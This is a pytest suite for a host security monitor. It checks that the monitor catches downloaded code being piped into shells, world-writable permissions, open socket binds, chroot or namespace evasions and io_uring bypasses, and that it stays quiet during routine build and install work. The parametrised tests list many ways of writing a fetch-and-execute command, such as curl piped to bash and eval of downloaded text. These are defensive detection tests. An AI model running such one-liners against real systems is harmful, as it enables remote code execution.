"""What was complained of in public about other monitors, as promises of this one; and a day's work without an alert."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.monitor.outside import NETWORK, outside
from tests.monitor.running import Monitor, loud, running

pytestmark = [pytest.mark.root, pytest.mark.usefixtures("kernel_side")]
HERE = Path(__file__).parent


@pytest.fixture(scope="module")
def monitor(kernel_side: None) -> Iterator[Monitor]:
    with running("--external", NETWORK) as made:
        yield made


@pytest.fixture(scope="module")
def url(monitor: Monitor) -> Iterator[str]:
    with outside(monitor.place) as address:
        yield address


def work(monitor: Monitor) -> Path:
    path = monitor.place / f"w{len(list(monitor.place.glob('w*')))}"
    path.mkdir()
    return path


def test_what_a_program_starts_counts_like_what_a_shell_starts(monitor: Monitor) -> None:
    root = monitor.act('python3 -c \'import os; open("f", "w"); os.system("chmod 777 f")\'')
    assert monitor.rule("world-writable", root)["process"]["argv"] == ["chmod", "777", "f"]


@pytest.mark.parametrize(
    "text",
    [
        "curl -s {u}/s | bash",
        "curl -s {u}/s | env X=1 nohup bash 2>/dev/null",
        "curl -s {u}/p | python3",
        "curl -s {u}/p | python3 -",
        'bash -c "$(curl -s {u}/s)"',
        "bash <(curl -s {u}/s)",
        "bash -c 'eval \"$(curl -s {u}/s)\"'",
        "bash -c 'source <(curl -s {u}/s)'",
        "wget -qO- {u}/s | tee x | sh",
        "curl -s {u}/s -o x; sh x",
        "curl -s {u}/s > x; chmod +x x; ./x",
        "curl -s {u}/s | base64 | base64 -d | sh",
        "python3 -c 'import urllib.request as u; exec(u.urlopen(\"{u}/p\").read())'",
    ],
)
def test_code_from_outside_is_told_in_every_spelling(monitor: Monitor, url: str, text: str) -> None:
    place = work(monitor)
    case = {**monitor.environment, "CASE": text.replace("{u}", url)}
    root = monitor.act('bash -c "$CASE"', cwd=place, env=case)
    assert "PROVEN" in (place / "proven").read_text()
    event = monitor.until(lambda e: e["control"] == "pipe-to-shell" and e["severity"] == "high", root)
    assert event["mitre"]


def test_a_download_is_silent_until_something_runs_it(monitor: Monitor, url: str) -> None:
    place = work(monitor)
    text = (
        f"curl -s -o s {url}/s; wget -q -O t {url}/s; curl -s {url}/d | python3 -m json.tool; cat s; grep PRO s; cp s u"
    )
    assert loud(monitor.all_of(text, cwd=place)) == []
    root = monitor.act("sh ./u", cwd=place)
    assert monitor.rule("code-from-outside", root)["severity"] == "high"


@pytest.mark.parametrize("act", [
    "touch f; chmod 776 f", "touch f; chmod 666 f", "touch f; chmod o+w f", "touch f; chmod a=rwx f",
    "touch f; setfacl -m o::rw f", "umask 0; touch f", "umask 0; mkdir f", "mkdir f; chmod 777 f",
])  # fmt: skip
def test_every_mode_that_anybody_may_write_is_told(monitor: Monitor, act: str) -> None:
    root = monitor.act(act)
    assert monitor.rule("world-writable", root)["severity"] == "medium"


def test_the_sticky_bit_is_looked_at(monitor: Monitor) -> None:
    events = monitor.all_of("mkdir d; chmod 1777 d")
    assert loud(events) == []
    assert [e["severity"] for e in events if e["rule"] == "world-writable"] == ["low"]


@pytest.mark.parametrize(("address", "told"), [
    ("127.0.0.1", False), ("127.3.2.1", False), ("::1", False), ("::ffff:127.0.0.1", False),
    ("0.0.0.0", True), ("::", True), ("::ffff:0.0.0.0", True),
])  # fmt: skip
def test_a_table_of_addresses_decides_v4_mapped_ones_included(monitor: Monitor, address: str, told: bool) -> None:
    family = "AF_INET6" if ":" in address else "AF_INET"
    code = f'import socket; s=socket.socket(socket.{family}); s.bind(("{address}", 0)); s.listen()'
    events = monitor.all_of(f"/usr/bin/python3 -c '{code}'")
    assert bool([e for e in events if e["control"] == "bind" and e["severity"] == "medium"]) is told


@pytest.mark.parametrize("way", [
    "/usr/bin/python3 -c 'import os; os.chroot(\"jail\"); os.chmod(\"/d/f\", 0o666)'",
    "/usr/bin/python3 -c 'import os; os.chroot(\"jail\"); os.chdir(\"/d\"); os.chmod(\"f\", 0o666)'",
    "unshare -m sh -c 'mount -t tmpfs t jail/d; touch jail/d/f; chmod 666 jail/d/f'",
    "unshare -pf sh -c 'chmod 666 jail/d/f; true'",
], ids=["chroot, absolute", "chroot, relative", "mounts of its own", "pids of its own"])  # fmt: skip
def test_paths_and_pids_are_the_host_s(monitor: Monitor, way: str) -> None:
    place = work(monitor)
    (place / "jail/d").mkdir(parents=True)
    (place / "jail/d/f").touch(0o600)
    root = monitor.act(way, cwd=place)
    event = monitor.rule("world-writable", root)
    assert event["detail"]["path"] == str(place / "jail/d/f")
    assert event["process"]["pid"] > 100  # in a namespace of its own it is one of the first


def test_short_lived_processes_are_not_missed(monitor: Monitor) -> None:
    events = monitor.all_of("for i in $(seq 1000); do /bin/true; done")
    assert events[-1]["rule"] == "tree-stop"
    assert events[-1]["detail"]["execs"] >= 1001


def test_io_uring_does_not_go_round_the_rules(monitor: Monitor) -> None:
    odd = monitor.place / "odd"
    subprocess.run(["gcc", "-O1", "-w", "-o", str(odd), str(HERE / "suite/odd.c")], check=True)
    root = monitor.act(f"{odd} ring-bind 29871; touch done")
    monitor.until(lambda e: e["rule"] in ("bind-outside", "io-uring"), root)


def test_without_kernel_headers_there_is_a_monitor_and_it_says_what_it_could_not_take(monitor: Monitor) -> None:
    detail = monitor.rule("monitor-start")["detail"]
    assert detail["backend"] != "bcc"
    assert isinstance(detail["refused"], list)


# A day's work ----------------------------------------------------------------------------------------------------

DAY = {
    "git clone, build and run": "git clone -q {u}/r.git r && cd r && make -s && ./run.sh && git log --oneline && git status -s",
    "pip install and run": "{python} -m venv --without-pip v; {python} -m pip install -q --no-index --find-links {u}/"
    " --target t {u}/greetings-1.0-py3-none-any.whl; PYTHONPATH=t {python} -c 'import greetings; greetings.main()'",
    "pip's script": "{python} -m pip install -q --no-index --prefix p {u}/greetings-1.0-py3-none-any.whl; "
    "PYTHONPATH=$(echo p/lib*/python*/site-packages p/local/lib/python*/dist-packages | tr ' ' :) p/*/bin/greet || "
    "PYTHONPATH=$(echo p/lib*/python*/site-packages | tr ' ' :) p/bin/greet || true",
    "npm install with a script": "npm install --silent --no-audit --no-fund --foreground-scripts {u}/greet-1.0.0.tgz",
    "make": "cp -r {work} m && cd m && make -s && make -s",
    "pytest": "cp -r {work} q && cd q && {python} -m pytest -q -p no:cacheprovider test_x.py",
    "apt download": "timeout 20 apt-get -o Acquire::Retries=0 download hostname 2>/dev/null; apt-cache policy hostname > /dev/null; true",
    "an API's answer in a variable": 'x=$(curl -s {u}/d); echo "$x" | python3 -c "import json,sys; print(json.load(sys.stdin))"; '
    "echo \"$x\" | sed s/a/b/ | awk '{{print}}' | sort | head -1",
    "archives": "tar cf x.tar {work}/Makefile 2>/dev/null; tar xf x.tar; gzip x.tar; gunzip x.tar.gz; rm x.tar",
    "a local server": "timeout 1 /usr/bin/python3 -m http.server --bind 127.0.0.1 0 > /dev/null 2>&1; true",
    "shells in shells": "echo 'echo hi' > s.sh; sh s.sh; cat s.sh | sh; sh < s.sh; bash -c 'eval \"echo x\"'; . ./s.sh; bash <(echo true)",
    "files": "mkdir -p a/b; umask 022; touch a/b/c; chmod 755 a; chmod g+w a/b/c; chmod u+x a/b/c; ln -s c a/b/d; mkdir -m 700 z; find . -name c",
}  # fmt: skip


@pytest.mark.parametrize("text", DAY.values(), ids=DAY)
def test_ordinary_work_asks_for_nobodys_attention(monitor: Monitor, url: str, text: str) -> None:
    place = work(monitor)
    if "npm" in text and shutil.which("npm") is None:
        pytest.skip("no npm here")
    text = text.format(u=url, python=sys.executable, work=monitor.place / "work")
    script = monitor.place / f"{place.name}.sh"
    script.write_text(f"cd {place}\n{text}\n")
    environment = {**os.environ, "HOME": str(place), "npm_config_cache": str(place / "npm")}
    events = monitor.all_of(f"bash {script} > {script}.out 2>&1", env=environment)
    assert loud(events) == [], (monitor.place / f"{place.name}.sh.out").read_text()[-2000:]
